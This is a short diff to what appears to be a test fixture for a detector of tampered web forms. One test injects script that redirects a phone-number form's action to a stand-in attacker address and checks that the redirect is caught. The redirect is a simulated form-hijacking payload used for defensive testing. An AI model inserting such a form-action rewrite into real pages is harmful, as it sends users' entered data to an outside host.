@@ -126,12 +126,12 @@ export default [
     files: () => ({ '': page(PHONE_FORM + script('var f = document.forms[0];')) }),
     find: PHONE,
     pageMayNotice: 'notice',
-    isRestless: true,
+    ownChanges: ['attributes action of FORM', 'attributes class of INPUT'],
     async act(visit) {
       await visit.inPage(
         `(() => { f.setAttribute('action', 'http://203.0.113.9/take'); document.querySelector('input').className = 'x'; })()`,
       );
-      await visit.untilFound(PHONE);
+      await visit.untilFound({ ...PHONE, sentTo: 'http://203.0.113.9/take' });
     },
   },
   {
